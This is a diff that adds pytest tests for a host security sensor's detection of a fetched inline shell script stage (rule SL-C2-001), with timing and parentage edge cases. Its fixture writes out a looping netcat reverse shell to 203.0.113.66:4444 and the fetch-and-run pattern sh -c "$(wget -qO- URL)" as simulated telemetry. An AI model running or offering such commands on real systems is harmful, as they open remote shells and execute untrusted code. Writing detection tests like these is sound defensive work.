@@ -406,3 +406,95 @@ def test_a_gone_interpreter_is_judged_by_the_kernels_view_of_its_stdin(tmp_path:
     assert stage_origin(700, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None  # unknown
     # /dev/fd/63 is not fd 0: its type was not read
     assert stage_origin(700, "/bin/sh", "/bin/sh", ["bash", "/dev/fd/63"], list, str(tmp_path), stdin_mode=fifo) is None
+
+
+@pytest.mark.parametrize(
+    "args,inline",
+    [
+        (["sh", "-c", "id"], True),
+        (["bash", "-ec", "id"], True),
+        (["python3", "-c", "print(1)"], True),
+        (["perl", "-e", "print 1"], True),
+        (["node", "--eval", "1"], True),
+        (["busybox", "sh", "-c", "id"], True),
+        (["python3", "-m", "http.server"], False),  # a module: nothing fetched on the line
+        (["sh", "/tmp/x.sh"], False),
+        (["sh"], False),
+        (["bash", "-o", "pipefail", "x.sh"], False),
+        (None, False),
+    ],
+)
+def test_runs_inline(args: list[str] | None, inline: bool) -> None:
+    from sensor.telemetry.stage import runs_inline
+
+    assert runs_inline(args) is inline
+
+
+def _inline_chain(
+    sh_ppid: int,
+    fetch_ppid: int,
+    fetch_pid: int = 20,
+    dt: float = 0.3,
+    exe: str = "/bin/sh",
+    argv: tuple[str, str] = ("sh", "-c"),
+) -> WindowView:
+    """`sh -c "$(wget -qO- URL)"`: the outer shell (pid 7) runs wget in a
+    child that connects, then sh -c with what it printed; then a channel."""
+    sh = exec_(DROP, DET, exe, [*argv, "while :; do nc 203.0.113.66 4444 -e sh; done"], pid=21)
+    sh.process.ppid = sh_ppid
+    fetch = connect(DROP, DET - dt, "198.51.100.5", 80, pid=fetch_pid, executable="/usr/bin/wget")
+    fetch.process.ppid = fetch_ppid
+    later = connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22, executable="/usr/bin/nc")
+    return window(DET + 5, seconds=10, execs=[sh], connects=[fetch, later])
+
+
+def test_an_inline_script_right_after_a_sibling_fetch_is_a_stage(tmp_path: Path) -> None:
+    """Left undone last session: `sh -c "$(wget -qO- URL)"` ran no new
+    executable and read no pipe, so no stage was seen."""
+    alerts = detector(config(tmp_path)).run(_inline_chain(7, 7))
+    assert rules_of(alerts) == ["SL-C2-001"], alerts
+    ev = alerts[0]["sluice"]["evidence"]
+    assert ev["stage"] == "inline_script"
+    assert [s["step"] for s in ev["chain"]] == ["connect", "exec", "connect"]
+    assert "a fetched script on the command line of /bin/sh" in alerts[0]["message"]
+
+
+@pytest.mark.parametrize(
+    "sh_ppid,fetch_ppid,fetch_pid,dt",
+    [
+        (7, 99, 20, 0.3),  # an unrelated process's connect
+        (7, 7, 20, 30.0),  # too long before
+        (7, 7, 20, -0.5),  # after the exec: the command line was fixed before
+        (0, 0, 20, 0.3),  # parents unknown: nothing ties them
+    ],
+)
+def test_an_inline_script_needs_a_related_fetch_just_before(
+    tmp_path: Path, sh_ppid: int, fetch_ppid: int, fetch_pid: int, dt: float
+) -> None:
+    assert detector(config(tmp_path)).run(_inline_chain(sh_ppid, fetch_ppid, fetch_pid, dt)) == []
+
+
+def test_an_inline_script_exec_d_by_the_shell_whose_child_fetched_is_a_stage(tmp_path: Path) -> None:
+    """The emulation's run: `sh -c 'sh -c "$(wget ...)"'` - the outer shell
+    (pid 21) ran wget in a child, then exec'd the inner sh as its last
+    command: same pid, so wget is the interpreter's own pid's child."""
+    assert rules_of(detector(config(tmp_path)).run(_inline_chain(1, 21))) == ["SL-C2-001"]
+
+
+def test_an_inline_script_after_its_parents_own_connect_is_no_stage(tmp_path: Path) -> None:
+    """An application that talks to its database and runs `sh -c`: its own
+    connects are not a fetch feeding the shell."""
+    assert detector(config(tmp_path)).run(_inline_chain(7, 1, fetch_pid=7)) == []
+
+
+def test_busybox_re_running_itself_as_sh_is_an_interpreter(tmp_path: Path) -> None:
+    """The emulation's real exec: busybox's ash runs `sh` as /proc/self/exe
+    with argv[0] "sh" (the stage was missed)."""
+    v = _inline_chain(1, 21, exe="/proc/self/exe")
+    assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"]
+
+
+@pytest.mark.parametrize("argv", [("gzip", "-c"), ("wget", "-c")])
+def test_a_busybox_applets_c_is_no_inline_script(tmp_path: Path, argv: tuple[str, str]) -> None:
+    """/bin/busybox is a shell by name, but `busybox gzip -c` is gzip."""
+    assert detector(config(tmp_path)).run(_inline_chain(1, 21, exe="/bin/busybox", argv=argv)) == []
